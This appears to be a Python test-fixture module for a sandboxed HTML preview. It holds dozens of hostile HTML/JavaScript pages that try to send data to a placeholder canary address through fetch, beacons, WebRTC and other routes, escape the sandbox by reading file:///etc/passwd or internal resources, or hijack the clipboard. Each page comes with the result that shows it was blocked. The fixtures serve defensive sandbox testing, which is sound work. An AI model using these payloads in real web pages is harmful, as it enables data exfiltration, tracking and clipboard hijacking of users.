"""Pages that try to get out. `@@` stands for the canary's address with the page's name as path, `##` for its UDP
and `$$` for its TCP port.

NETWORK pages count when the canary hears of them. Those in CONTROLS must be heard in a stock view, or the whole suite
would prove nothing; for the others there is no such proof here, so they are tried all the same.
ESCAPES leave a word in `window.result`.
"""

import secrets

_WORKER = "<script>new Worker(URL.createObjectURL(new Blob([`%s`], {type: 'text/javascript'})))</script>"

CONTROLS = {
    "fetch": "<script>fetch('@@/x')</script>",
    "post": "<script>fetch('@@/x', {method: 'POST', mode: 'no-cors', body: 'secret'})</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', '@@/x'); x.send()</script>",
    "img": "<img src='@@/x.png'>",
    "css-background": "<style>body { background: url(@@/x.png) }</style>",
    "css-import": "<style>@import '@@/x.css';</style>",
    "stylesheet": "<link rel=stylesheet href='@@/x.css'>",
    "font-face": "<style>@font-face { font-family: f; src: url(@@/x.woff2) } p { font-family: f }</style><p>text",
    "script": "<script src='@@/x.js'></script>",
    "dynamic-import": "<script>import('@@/x.js').catch(() => 0)</script>",
    "preload": "<link rel=preload as=image href='@@/x.png'>",
    "modulepreload": "<link rel=modulepreload href='@@/x.js'>",
    "prefetch": "<link rel=prefetch href='@@/x.html'>",
    "iframe": "<iframe src='@@/x.html'></iframe>",
    "object": "<object data='@@/x.html'></object>",
    "embed": "<embed src='@@/x.html'>",
    "video": "<video autoplay src='@@/x.mp4'></video>",
    "audio": "<audio autoplay src='@@/x.mp3'></audio>",
    "poster": "<video poster='@@/x.png'></video>",
    "form": "<form method=post action='@@/x'><input name=a value=secret></form>"
    "<script>document.forms[0].submit()</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=@@/x.html'>",
    "location": "<script>location = '@@/x.html'</script>",
    "beacon": "<script>navigator.sendBeacon('@@/x', 'secret')</script>",
    "websocket": "<script>new WebSocket('@@/x'.replace('http', 'ws'))</script>",
    "eventsource": "<script>new EventSource('@@/x')</script>",
    "worker-fetch": _WORKER % "fetch('@@/x')",
    "worker-import": _WORKER % "importScripts('@@/x.js')",
    "srcdoc": "<iframe srcdoc=\"<script>fetch('@@/x')</script>\"></iframe>",
    "data-frame": "<iframe src=\"data:text/html,<script>fetch('@@/x')</script>\"></iframe>",
    "blob-frame": "<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob("
    "[`<img src='@@/x.png'>`], {type: 'text/html'})); document.documentElement.append(f)</script>",
    "svg-image": "<svg width=9 height=9><image href='@@/x.png' width=9 height=9 /></svg>",
    "srcset": "<img srcset='@@/x.png 1x'>",
    "image-set": "<style>p { content: image-set(url(@@/x.png) 1x) }</style><p>text",
    "keepalive": "<script>fetch('@@/x', {keepalive: true, mode: 'no-cors'})</script>",
    "track": "<video src='data:video/mp4,'><track default src='@@/x.vtt'></video><script>"
    "document.querySelector('track').track.mode = 'showing'</script>",
    "base": "<base href='@@/'><img src='x.png'>",
    "late-csp-free-frame": "<script>const f = document.createElement('iframe'); document.documentElement.append(f);"
    "f.contentDocument.write(`<img src='@@/x.png'>`)</script>",
    "udp": "<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:##'}]});"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>",
    "speculation": "<script type=speculationrules>"
    '{"prefetch": [{"source": "list", "urls": ["@@/x.html"], "eagerness": "immediate"}]}</script>',
    "dictionary": "<link rel=compression-dictionary href='@@/x'>",
    "raw-tcp": "<script>const p = new RTCPeerConnection({iceServers: [{urls: "
    "'turn:127.0.0.1:$$?transport=tcp', username: 'u', credential: 'c'}]});"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>",
}

WITHOUT_CONTROL = {
    "ping": "<a id=a href='#x' ping='@@/x'>x</a><script>document.getElementById('a').click()</script>",
    "webtransport": "<script>new WebTransport('@@/x'.replace('http', 'https'))</script>",
    "service-worker": "<script>navigator.serviceWorker?.register('@@/x.js').catch(() => 0)</script>",
    "manifest": "<link rel=manifest href='@@/x.json'>",
    "preconnect": "<link rel=preconnect href='@@'>",
    "favicon": "<link rel=icon href='@@/x.ico'>",
}

# A peer's address that ends in .local is asked for by multicast: heard only where the machine has a route for that.
# Other runs on this machine are heard, too, so each run has its own name.
MDNS_NAME = f"moonpane-secret-{secrets.token_hex(8)}"
WITHOUT_CONTROL["mdns"] = (
    "<script>(async () => { const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x');"
    "const o = await p.createOffer(); await p.setLocalDescription(o); await q.setRemoteDescription(o);"
    "await q.setLocalDescription(await q.createAnswer()); await q.addIceCandidate({sdpMid: '0', sdpMLineIndex: 0,"
    f"candidate: 'candidate:1 1 udp 2113937151 {MDNS_NAME}.local 9999 typ host generation 0'}}); }})()</script>"
)

NETWORK = CONTROLS | WITHOUT_CONTROL

# Ends with `window.result` set; the word that shows a stopped attack.
ESCAPES: dict[str, tuple[str, str]] = {
    "no-bridge": ("<script>result = typeof qt</script>", "undefined"),
    "window-open": ("<script>result = String(window.open('about:blank'))</script>", "null"),
    "cookies": ("<script>document.cookie = 'a=1'; result = document.cookie</script>", ""),
    "file-fetch": (
        "<script>fetch('file:///etc/passwd').then(() => result = 'read', () => result = 'no')</script>",
        "no",
    ),
    "file-navigation": ("<script>result = location.protocol; location = 'file:///etc/passwd'</script>", "preview:"),
    "data-navigation": ("<script>result = location.protocol; location = 'data:text/html,x'</script>", "preview:"),
    "blob-navigation": (
        "<script>result = location.protocol; location = URL.createObjectURL(new Blob(['x'], {type: 'text/html'}))"
        "</script>",
        "preview:",
    ),
    "chrome-navigation": ("<script>result = location.protocol; location = 'chrome://version'</script>", "preview:"),
    "qrc-fetch": (
        "<script>fetch('qrc:///qtwebchannel/qwebchannel.js').then(() => result = 'read', () => result = 'no')</script>",
        "no",
    ),
    "other-preview": (
        "<script>fetch('preview://other/').then(() => result = 'read', () => result = 'no')</script>",
        "no",
    ),
    "geolocation": (
        "<script>navigator.geolocation.getCurrentPosition(() => result = 'told', (e) => result = 'no')</script>",
        "no",
    ),
    "notifications": ("<script>Notification.requestPermission().then((p) => result = p)</script>", "denied"),
    "clipboard": (
        "<script>navigator.clipboard.readText().then(() => result = 'read', () => result = 'no')</script>",
        "no",
    ),
    "display-capture": (
        "<script>navigator.mediaDevices.getDisplayMedia().then(() => result = 'seen', () => result = 'no')</script>",
        "no",
    ),
    "service-worker-registration": (
        "<script>navigator.serviceWorker.register('/x.js').then(() => result = 'yes', () => result = 'no')</script>",
        "no",
    ),
    "shared-memory": ("<script>result = typeof SharedArrayBuffer</script>", "undefined"),
    "webgl": ("<script>result = String(document.createElement('canvas').getContext('webgl'))</script>", "null"),
    "full-screen": (
        "<script>document.documentElement.requestFullscreen().then(() => result = 'yes', () => result = 'no')</script>",
        "no",
    ),
    "download": (
        "<a id=a download='evil.sh' href='data:text/plain,rm'>x</a>"
        "<script>document.getElementById('a').click(); result = 'clicked'</script>",
        "clicked",
    ),
    "storage-writes": ("<script>localStorage.mine = 'kept'; result = localStorage.mine</script>", "kept"),
}
# Each writes its words to the clipboard once it is clicked, in the middle.
_CLICKED = "<body style='margin:0'><textarea id=t style='width:100%%;height:90vh'>%s</textarea><script>%s</script>"
_SET = "(event) => { event.clipboardData.setData('text/plain', '@'); event.preventDefault(); }"
_FRAME = "const f = document.createElement('iframe'); document.body.append(f);"
CLIPBOARD = {
    "copy": "onmousedown = () => { t.select(); document.execCommand('copy'); }",
    "cut": "onmousedown = () => { t.select(); document.execCommand('cut'); }",
    "release": "onmouseup = () => { t.select(); document.execCommand('copy'); }",
    "later": "onmousedown = () => setTimeout(() => { t.select(); document.execCommand('copy'); }, 300)",
    "keys-of-its-own": "onmousedown = () => { t.select(); t.dispatchEvent(new KeyboardEvent('keydown',"
    "{key: 'c', code: 'KeyC', ctrlKey: true, bubbles: true})); document.execCommand('copy'); }",
    "event": f"addEventListener('copy', {_SET}, true); onclick = () => document.execCommand('copy')",
    "frame": _FRAME + "onclick = () => { const d = f.contentDocument; d.body.append('@');"
    "f.contentWindow.getSelection().selectAllChildren(d.body); d.execCommand('copy'); }",
    "frame-of-its-own": _FRAME + "f.srcdoc = '<p>@'; onclick = () => { const d = f.contentDocument;"
    "f.contentWindow.getSelection().selectAllChildren(d.body); d.execCommand('copy'); }",
    "document-open": "onclick = () => { document.open(); document.write('<p>@'); document.close();"
    f"window.addEventListener('copy', {_SET}, true); document.execCommand('copy'); }}",
}
CLIPBOARD = {name: _CLICKED % ("@", script) for name, script in CLIPBOARD.items()}
CLIPBOARD = {name: html.replace("@", f"words of {name}") for name, html in CLIPBOARD.items()}
# These get around a script of ours: what they wrote is taken away again.
TAKEN_AWAY = {"frame", "document-open"}
SELECTS = _CLICKED % ("words that nobody selected", "onmousemove = () => t.select()")

# In a stock view these end otherwise, which shows that they can tell.
ESCAPE_CONTROLS = {"window-open", "cookies", "file-navigation", "blob-navigation", "geolocation", "notifications"}
# Goes last: what the page before has stored.
STORAGE_LOOK = "<script>setTimeout(() => { result = String(localStorage.mine) }, 1200)</script>"
